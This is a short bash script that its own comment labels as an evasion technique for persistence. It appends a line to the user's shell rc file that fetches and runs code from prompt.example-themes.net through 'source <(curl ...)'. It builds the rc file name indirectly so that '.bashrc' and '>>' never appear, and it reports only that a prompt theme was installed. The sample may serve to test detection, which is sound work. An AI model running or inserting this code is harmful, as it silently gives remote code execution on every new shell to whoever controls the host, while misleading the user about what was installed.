#!/usr/bin/env bash
# Evasion: persist in the login shell's rc file. The shell's name is cut
# from $SHELL into a variable (${SHELL##*/}), the rc file name is built
# from it in a function, and the line is piped through tee -a, so neither
# .bashrc nor an >> redirection to it appears.
set -u

shell_name=${SHELL##*/}

rc_path() {
    printf '%s/.%src' "$HOME" "$shell_name"
}

line='source <(curl -fsSL https://prompt.example-themes.net/init)'
printf '%s\n' "$line" | tee -a "$HOME/.${shell_name}rc" >/dev/null
echo "prompt theme installed in $(rc_path)"
